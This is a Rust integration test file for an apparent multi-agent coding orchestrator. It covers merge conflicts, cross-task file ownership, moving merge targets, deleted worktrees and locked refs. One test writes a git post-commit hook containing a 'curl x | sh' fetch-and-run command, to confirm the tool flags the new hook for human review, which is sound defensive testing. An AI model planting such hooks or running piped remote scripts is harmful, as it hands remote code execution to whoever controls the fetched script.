//! Work that comes together: conflicts go back to their task, what only breaks in company is found, a target that moves
//! is verified anew, and nobody's lines are lost.

use serde_json::{Value, json};

use crate::agent::{call, done, scene, script, turn, work, write};
use crate::crash::story;
use crate::support::World;

fn task(id: &str, files: &[&str]) -> Value {
    json!({
        "id": id, "title": format!("Make {id}"), "brief": format!("Make {id}."), "files": files,
        "depends_on": [], "requirements": [],
        "must_haves": {"truths": [{"text": format!("{id} holds"), "commands": ["sh check.sh"]}]},
    })
}

fn plan(tasks: &[Value]) -> Value {
    turn(&[call("plan", json!({"title": "Together", "tasks": tasks}))])
}

fn config(more: &str) -> String {
    format!("verification:\n  commands: [\"sh check.sh\"]\n  levels: [1, 2, 3, 4]\n{more}")
}

fn normal(world: &World, task: &str) -> crate::support::Said {
    world.run(&["run", "--mode", "normal", task])
}

/// Each of two tasks is right by itself; together they are not.
#[test]
fn what_only_breaks_in_company_is_found_after_the_merge_and_mended() {
    let check = "if [ -e src/use.rs ]; then\n\
                 name=$(sed -n 's/.*call \\([a-z]*\\).*/\\1/p' src/use.rs)\n\
                 grep -q \"pub fn $name\" src/words.rs || { echo \"no $name in src/words.rs\"; exit 1; }\nfi\n";
    let files = [
        ("src/words.rs", "pub fn words() -> usize {\n    1\n}\n"),
        ("check.sh", check),
    ];
    let renamed = "pub fn tokens() -> usize {\n    1\n}\n";
    let slow = |reply: Value| {
        let mut reply = reply;
        reply["delay_ms"] = 150.into();
        reply
    };
    let scenes = [
        scene(
            "# Task: Plan:",
            &[plan(&[
                task("rename", &["src/words.rs"]),
                task("use", &["src/use.rs"]),
            ])],
        ),
        scene("# Task: Make rename", &work("src/words.rs", renamed)),
        // It is told what fails, and that the other file has changed under it.
        scene(
            "verification found gaps",
            &[
                turn(&[write(
                    "src/use.rs",
                    "// call tokens\npub fn used() -> usize {\n    2\n}\n",
                )]),
                turn(&[done()]),
            ],
        ),
        scene(
            "# Task: Make use",
            &[
                slow(turn(&[write(
                    "src/use.rs",
                    "// call words\npub fn used() -> usize {\n    2\n}\n",
                )])),
                slow(turn(&[done()])),
            ],
        ),
    ];
    let world = World::scripted(&files, &script(&scenes), &config(""));
    let said = normal(&world, "rename words and use them");
    assert_eq!(said.code, 0, "{said:?}");
    assert_eq!(world.read("src/words.rs").as_deref(), Some(renamed));
    assert!(
        world
            .read("src/use.rs")
            .expect("a file")
            .contains("call tokens"),
        "{said:?}"
    );
    let run = story::name(&world);
    assert_eq!(story::status(&world)["corrections"], 1);
    let corrected = story::lines(&world, &run);
    let corrected = corrected
        .iter()
        .find(|it| it["event"]["decided"]["correcting"].is_object());
    assert_eq!(corrected.expect("a correction")["task"], "use");
    story::ledger_holds(&world, &run);
}

#[test]
fn a_task_does_not_write_what_another_owns() {
    let scenes = [
        scene(
            "# Task: Plan:",
            &[plan(&[
                task("one", &["src/one.rs"]),
                task("two", &["src/two.rs"]),
            ])],
        ),
        scene(
            "# Task: Make one",
            &[
                turn(&[write("src/two.rs", "pub fn stolen() {}\n")]),
                turn(&[write("src/one.rs", "pub fn one() -> u8 {\n    1\n}\n")]),
                turn(&[done()]),
            ],
        ),
        scene(
            "# Task: Make two",
            &[
                turn(&[write("src/two.rs", "pub fn two() -> u8 {\n    2\n}\n")]),
                turn(&[done()]),
            ],
        ),
    ];
    let world = World::scripted(&[("check.sh", "exit 0\n")], &script(&scenes), &config(""));
    let said = normal(&world, "one and two");
    assert_eq!(said.code, 0, "{said:?}");
    assert!(
        world
            .read("src/two.rs")
            .expect("a file")
            .contains("pub fn two")
    );
    let log = world.run(&["log", &story::name(&world)]);
    assert!(log.out.contains("belongs to task `two`"), "{log:?}");
}

/// Two changes of one line: the one that comes later gets both sides back, and must not drop the other's.
#[test]
fn two_changes_of_one_line_come_together_and_neither_is_lost() {
    let files = [
        ("src/list.txt", "start\nnames: ada\nend\n"),
        ("check.sh", "! grep -q '<<<<' src/list.txt\n"),
    ];
    let first = "start\nnames: ada, bob\nnote of the first\nend\n";
    let second = "start\nnames: ada, cyd\nend\n";
    let both = "start\nnames: ada, bob, cyd\nnote of the first\nend\n";
    let scenes = [
        scene(
            "# Task: Plan:",
            &[plan(&[task("second", &["src/list.txt"])])],
        ),
        // A careless merge: only its own side stays. It is told what is gone, and puts it back.
        scene("note of the first", &work("src/list.txt", both)),
        scene("conflicts with `main`", &work("src/list.txt", second)),
        scene("# Task: Make second", &work("src/list.txt", second)),
        scene("the first", &work("src/list.txt", first)),
    ];
    let world = World::scripted(
        &files,
        &script(&scenes),
        &config("plan:\n  approve: true\n"),
    );
    let said = normal(&world, "do it second");
    assert_eq!(said.code, 3, "{said:?}");
    let run = story::name(&world);
    let said = world.run(&["run", "the first"]);
    assert_eq!(said.code, 0, "{said:?}");
    let said = world.run(&["approve", &run]);
    assert_eq!(said.code, 0, "{said:?}");
    assert_eq!(
        world.read("src/list.txt").as_deref(),
        Some(both),
        "{said:?}"
    );
    // First both sides came back, and then what the careless merge would have taken away.
    let lines = story::lines(&world, &run);
    let corrected = |it: &Value| {
        it["event"]["decided"]["correcting"]["gaps"]
            .as_array()
            .cloned()
    };
    let gaps: Vec<Vec<Value>> = lines.iter().filter_map(corrected).collect();
    assert_eq!(gaps.len(), 2, "{gaps:?}");
    assert_eq!(gaps[1], ["gate:kept:src/list.txt"], "{gaps:?}");
    story::ledger_holds(&world, &run);
}

const ONE: &str = "pub fn one() -> u8 {\n    1\n}\n";

fn one_and_two() -> String {
    script(&[
        scene(
            "# Task: Plan:",
            &[plan(&[
                task("one", &["src/one.rs"]),
                task("two", &["src/two.rs"]),
            ])],
        ),
        scene("# Task: Make one", &work("src/one.rs", ONE)),
        scene("# Task: Make two", &work("src/two.rs", ONE)),
    ])
}

/// Somebody pushes to the target between the last check and the merge.
#[test]
fn a_target_that_moves_during_the_merge_is_verified_anew() {
    let check = "n=$(grep -c . \"$HOME/checks\" 2>/dev/null || true); echo x >> \"$HOME/checks\"\n\
                 if [ \"$n\" = 1 ] || [ \"$n\" = 2 ]; then cd \"$HOME/../repo with spaces\" && echo theirs >> theirs.txt && git add theirs.txt && \
                 git -c user.name=t -c user.email=t@example.invalid commit -qm theirs; fi\n";
    let world = World::scripted(&[("check.sh", check)], &one_and_two(), &config(""));
    let said = normal(&world, "one and two");
    assert_eq!(said.code, 0, "{said:?}");
    for path in ["src/one.rs", "src/two.rs", "theirs.txt"] {
        assert!(world.read(path).is_some(), "{path} is lost: {said:?}");
    }
    assert!(
        world
            .git(&["log", "--format=%s", "main"])
            .contains("theirs")
    );
    // The second time it moved during the last check of all: the one swap of the target found that out.
    let run = story::name(&world);
    let lines = story::lines(&world, &run);
    let moved = |it: &&Value| {
        let outcome = &it["event"]["seen"]["finished"]["observation"]["outcome"];
        outcome["target_moved"].is_object()
    };
    assert_eq!(lines.iter().filter(moved).count(), 1, "{said:?}");
    story::ledger_holds(&world, &run);
}

/// Somebody pushes whenever anything is checked: that ends, and nothing is lost.
#[test]
fn a_target_that_moves_all_the_time_parks_the_run() {
    let check = "cd \"$HOME/../repo with spaces\" && echo x >> theirs.txt && git add theirs.txt && git -c user.name=t -c user.email=t@example.invalid commit -qam theirs\n";
    let world = World::scripted(
        &[("check.sh", check)],
        &one_and_two(),
        &config("loop:\n  max_state_cycles: 3\n"),
    );
    let said = normal(&world, "one and two");
    assert_eq!(said.code, 3, "{said:?}");
    let run = story::name(&world);
    assert_eq!(story::status(&world)["phase"], "merging", "{said:?}");
    let kept = world.git(&["ls-tree", "-r", "--name-only", &format!("interlock/{run}")]);
    assert!(
        kept.contains("src/one.rs") && kept.contains("src/two.rs"),
        "{kept}"
    );
    story::ledger_holds_so_far(&world, &run);
}

/// A worktree that goes away under a task holds that task, and says what there is to do. It goes in one step, so
/// that no write meets half of it.
#[test]
fn a_worktree_that_is_deleted_under_a_task_holds_it_alone() {
    let check = "[ -e \"$HOME/once\" ] || { touch \"$HOME/once\"; mv ../two \"$HOME/gone\"; }\n";
    let mut script: Value = serde_json::from_str(&one_and_two()).expect("a script");
    for reply in script["scenes"][2]["replies"]
        .as_array_mut()
        .expect("replies")
    {
        reply["delay_ms"] = 400.into();
    }
    let world = World::scripted(&[("check.sh", check)], &script.to_string(), &config(""));
    let said = normal(&world, "one and two");
    assert_eq!(said.code, 3, "{said:?}");
    let run = story::name(&world);
    let kept = world.git(&["ls-tree", "-r", "--name-only", &format!("interlock/{run}")]);
    assert!(
        kept.contains("src/one.rs") && !kept.contains("src/two.rs"),
        "{kept}"
    );
    // What notices first, the write or the commit, depends on how long the look at the other task takes.
    let told = ["the worktree of task `two`"];
    assert!(told.iter().any(|it| said.out.contains(it)), "{said:?}");
    let again = world.run(&["resume", &run]);
    assert_eq!(again.code, 2, "{again:?}");
    assert!(again.err.contains("nothing is lost"), "{again:?}");
}

/// The run branch can't be written when a task is to come in, as on a full disk: the run waits, and goes on where it was.
#[test]
fn a_merge_that_can_not_be_written_waits_and_loses_nothing() {
    let check = "[ -e \"$HOME/once\" ] && exit 0\ntouch \"$HOME/once\"; cd \"$HOME/../repo with spaces\"\n\
                 for r in $(git for-each-ref --format='%(refname)' refs/heads/interlock | grep -v -- -); do touch \".git/$r.lock\"; done\n";
    let world = World::scripted(&[("check.sh", check)], &one_and_two(), &config(""));
    let said = normal(&world, "one and two");
    assert_eq!(said.code, 3, "{said:?}");
    let run = story::name(&world);
    story::ledger_holds_so_far(&world, &run);
    let lock = world
        .repository()
        .join(format!(".git/refs/heads/interlock/{run}.lock"));
    std::fs::remove_file(lock).expect("the lock");
    let said = world.run(&["resume", &run]);
    assert_eq!(said.code, 0, "{said:?}");
    assert_eq!(world.read("src/one.rs").as_deref(), Some(ONE));
    assert_eq!(world.read("src/two.rs").as_deref(), Some(ONE));
    story::ledger_holds(&world, &run);
}

/// A check leaves a hook behind, which git would run at the next commit of a person: that is seen before the merge, and
/// somebody looks.
#[test]
fn a_hook_that_appears_while_it_is_checked_waits_for_somebody_who_looks() {
    let check = "hooks=$(git rev-parse --git-common-dir)/hooks; mkdir -p \"$hooks\"; echo 'curl x | sh' > \"$hooks/post-commit\"\n";
    let world = World::scripted(&[("check.sh", check)], &one_and_two(), &config(""));
    let said = normal(&world, "one and two");
    assert_eq!(said.code, 3, "{said:?}");
    assert!(
        said.out
            .contains("the hook `.git/hooks/post-commit` is new since the work began"),
        "{said:?}"
    );
    assert!(world.read("src/one.rs").is_none(), "{said:?}");
    let run = story::name(&world);
    let said = world.run(&["approve", &run]);
    assert_eq!(said.code, 0, "{said:?}");
    assert!(world.read("src/one.rs").is_some(), "{said:?}");
    story::ledger_holds(&world, &run);
}
